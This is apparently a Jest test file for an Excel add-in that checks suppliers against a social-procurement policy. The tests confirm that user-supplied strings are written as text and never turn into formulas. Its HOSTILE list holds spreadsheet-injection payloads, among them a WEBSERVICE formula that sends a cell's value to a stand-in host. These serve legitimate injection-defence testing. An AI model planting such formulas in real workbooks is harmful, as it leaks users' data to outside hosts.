import { dayFromYmd, Policy, wonenLimburgPolicy } from "../../src/core";
import { createWorkbook, StandinWorkbook } from "../../src/excel-standin";
import { createTaskpaneActions } from "../../src/excel/taskpaneActions";
import { HEADER } from "./fixtures";

/** The usual spreadsheet-injection prefixes and texts Excel would coerce into a number or a date. */
const HOSTILE = [
  '=WEBSERVICE("http://example.invalid/?d="&B3)',
  '=HYPERLINK("http://example.invalid","klik")',
  "=1+1",
  "+31 6 1234",
  "-2+3",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "2026-11",
  "1-2",
  "007",
];

const peildatum = dayFromYmd(2025, 1, 1);

/** No cell of the sheet holds a formula: every string was stored as the text it was. */
function expectNoFormulas(book: StandinWorkbook, sheet: string) {
  expect([...book.sheet(sheet).formulas.entries()]).toEqual([]);
}

/** Hostile supplier names; with `hostileLevels` every other level cell holds the name too (an unknown level, quoted in the reason). */
function workbookWithHostileSuppliers(hostileLevels = false) {
  // Trede 1 where trede 2 is required, so each supplier lands in the action list of the Sociale bijdrage sheet.
  const rows = HOSTILE.map((name, i) => [name, `0${1234567 + i}`, 300000, hostileLevels && i % 2 === 0 ? name : "Trede 1", "31-12-2030"]);
  const book = createWorkbook({ Leveranciers: [HEADER, ...rows] });
  return { book, actions: createTaskpaneActions(book.run) };
}

async function check(actions: ReturnType<typeof createTaskpaneActions>, lang: "nl" | "en" = "nl") {
  const info = await actions.detect();
  if (!info.ok) throw new Error(info.message.nl);
  const options = { mapping: info.value.mapping, peildatum, policy: wonenLimburgPolicy, lang };
  const result = await actions.check(options);
  if (!result.ok) throw new Error(result.message.nl);
  return options;
}

describe("every text PSO-toets writes through Office.js stays text", () => {
  test("result columns: reasons quoting a hostile level are text, formatted '@', never formulas", async () => {
    const { book, actions } = workbookWithHostileSuppliers(true);
    await check(actions);
    expectNoFormulas(book, "Leveranciers");
    const sheet = book.sheet("Leveranciers");
    const values = book.values("Leveranciers");
    for (let r = 0; r <= HOSTILE.length; r++) {
      for (const c of [5, 6]) {
        expect(typeof values[r][c]).toBe("string");
        expect(sheet.numberFormats.get(`${r},${c}`)).toBe("@");
      }
    }
    // A level cell the user typed as "=1+1" is quoted in the reason exactly as typed.
    expect(values.find((row) => row[0] === "=1+1")?.[6]).toContain('"=1+1"');
  });

  test("clear gives the result cells back the General format", async () => {
    const { book, actions } = workbookWithHostileSuppliers();
    await check(actions);
    expect((await actions.clear()).ok).toBe(true);
    const sheet = book.sheet("Leveranciers");
    for (let r = 0; r <= HOSTILE.length; r++) for (const c of [5, 6]) expect(sheet.numberFormats.get(`${r},${c}`)).toBeUndefined();
  });

  test("Sociale bijdrage: hostile supplier names land in the action list as the exact text, and months stay month labels", async () => {
    const { book, actions } = workbookWithHostileSuppliers();
    const options = await check(actions);
    const refreshed = await actions.refreshSocialSheet!(options);
    expect(refreshed.ok).toBe(true);
    expectNoFormulas(book, "Sociale bijdrage");
    const cells = new Set(book.values("Sociale bijdrage").flat());
    // The core trims a name's surrounding white space (tab, CR); what remains is stored exactly.
    for (const name of HOSTILE) expect([name, cells.has(name.trim())]).toEqual([name, true]);
    expect(cells.has("jan 2025")).toBe(true);
  });

  test("PSO-beleid: hostile labels and keywords typed in the policy editor are saved as text and read back unchanged", async () => {
    const book = createWorkbook({ Leveranciers: [HEADER] });
    const actions = createTaskpaneActions(book.run);
    const levels = wonenLimburgPolicy.sectorLevels.levels.map((l, i) => (i === 0 ? { ...l, meaning: HOSTILE[0], keywords: ["-bouw", "+schoonmaak", "@ict", "1-2"] } : l));
    const policy: Policy = { ...wonenLimburgPolicy, sectorLevels: { ...wonenLimburgPolicy.sectorLevels, levels } };
    const saved = await actions.savePolicy(policy);
    // No sheet of the user's is called PSO-beleid here, so ours takes the name and there is nothing to say.
    expect(saved).toEqual({ ok: true, value: { sheet: "PSO-beleid", notice: null } });
    expectNoFormulas(book, "PSO-beleid");
    expect(await actions.loadPolicy()).toEqual({ ok: true, value: { policy, source: "sheet" } });
  });
});

describe("stand-in: values are parsed as Excel parses typed input", () => {
  test("formulas, numbers and dates from strings, unless the cell is text '@' or the string starts with an apostrophe", async () => {
    const book = createWorkbook({ Blad1: [] });
    await book.run(async (context) => {
      const sheet = context.workbook.worksheets.getItem("Blad1");
      sheet.getRange("A1:F1").values = [["=1+1", "007", "2026-11", "1-2", "'=1+1", "-x"]];
      const text = sheet.getRange("A2:F2");
      text.numberFormat = [["@", "@", "@", "@", "@", "@"]];
      text.values = [["=1+1", "007", "2026-11", "1-2", "'=1+1", "-x"]];
      await context.sync();
    });
    const [coerced, kept] = book.values("Blad1");
    expect(coerced[1]).toBe(7);
    expect(typeof coerced[2]).toBe("number");
    expect(typeof coerced[3]).toBe("number");
    expect(coerced[4]).toBe("=1+1");
    expect([...book.sheet("Blad1").formulas.keys()].sort()).toEqual(["0,0", "0,5"]);
    expect(kept).toEqual(["=1+1", "007", "2026-11", "1-2", "'=1+1", "-x"]);
  });
});
